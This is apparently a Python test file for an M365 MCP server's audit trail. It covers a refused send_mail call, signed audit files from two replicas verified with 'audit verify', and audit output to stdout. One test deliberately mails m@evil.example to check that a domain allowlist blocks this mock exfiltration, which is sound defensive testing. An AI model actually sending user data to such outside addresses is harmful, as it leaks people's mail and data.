"""The audit trail of real server processes: refused calls, two replicas with one Redis, and `audit verify`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

from tests.audit.reading import of_class, problems, read
from tests.e2e.grants import KEYS, call_tool, signed_in, start_server
from tests.e2e.programs import Redis, Simulator
from tests.e2e.test_commands import run

MAIL: dict[str, Any] = {"to": ["grace@contoso.example"], "subject": "Hello", "body": "<p>Hi</p>"}


async def test_h7_refused_exfiltration_names_person_client_session_and_domain(
    tmp_path: Path, simulator: Simulator
) -> None:
    """H7: a call of send_mail that the allowed domains refuse leaves who called, with what, and the domain."""
    file = tmp_path / "audit"
    server = start_server(tmp_path, simulator, M365_AUDIT=f"file:{file}", M365_SEND_ALLOWED_DOMAINS="contoso.example")
    ada = await signed_in(server, simulator)
    reply = await call_tool(server.url, ada.access, "send_mail", **{**MAIL, "to": ["m@evil.example"]})
    assert "recipient_not_allowed" in reply.text
    assert server.program.end() == 0

    (refused,) = [record for record in of_class(file, 6003) if record["api"]["operation"] == "send_mail"]
    (completed,) = [record for record in of_class(file, 3002) if record["status"] == "completed"]
    assert problems(refused) == []
    assert refused["status_code"] == "recipient_not_allowed"
    assert refused["actor"]["user"] == completed["user"]
    assert refused["actor"]["session"]["uid"] == completed["session"]["uid"]
    assert refused["actor"]["app_uid"] == ada.client_id
    assert refused["unmapped"]["refused_domains"] == {"evil.example": 1}
    assert "m@evil.example" not in file.read_text()


async def test_files_of_two_replicas_verify_and_show_what_was_cut(
    tmp_path: Path, simulator: Simulator, shared_redis: Redis
) -> None:
    """`m365-mcp audit verify` accepts the whole files of two replicas, and tells of the end that one has lost."""
    key = Ed25519PrivateKey.generate()
    private, public = tmp_path / "audit.pem", tmp_path / "audit.pub.pem"
    private.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    public.write_bytes(key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    files = tmp_path / "one.ndjson", tmp_path / "two.ndjson"
    chosen = {"REDIS_URL": shared_redis.url, "M365_AUDIT_KEY_FILE": str(private), **KEYS}
    for file in files:
        server = start_server(tmp_path, simulator, M365_AUDIT=f"file:{file}", **chosen)
        ada = await signed_in(server, simulator)
        assert "accepted" in (await call_tool(server.url, ada.access, "send_mail", **MAIL)).text
        assert server.program.end() == 0
    whole = run("audit", "verify", *map(str, files), "--public-key", str(public), folder=tmp_path)
    lines = files[0].read_bytes().splitlines(keepends=True)
    files[0].write_bytes(b"".join(lines[:-1]))
    cut = run("audit", "verify", *map(str, files), "--public-key", str(public), folder=tmp_path)

    assert (whole.returncode, cut.returncode) == (0, 1)
    assert "0 problems" in whole.stdout
    assert "was cut after record" in cut.stdout
    assert [problem for record in read(files[1]) for problem in problems(record)] == []


async def test_standard_output_has_records_and_nothing_else(tmp_path: Path, simulator: Simulator) -> None:
    """With M365_AUDIT=stdout the process writes the trail there and its log to standard error."""
    server = start_server(tmp_path, simulator, M365_AUDIT="stdout", MCP_LOG_FORMAT="json")
    await signed_in(server, simulator)
    assert server.program.end() == 0

    found = [json.loads(line) for line in server.log.splitlines() if '"class_uid"' in line]
    assert {record["class_uid"] for record in found} == {3002, 6003}
    assert [problem for record in found for problem in problems(record)] == []
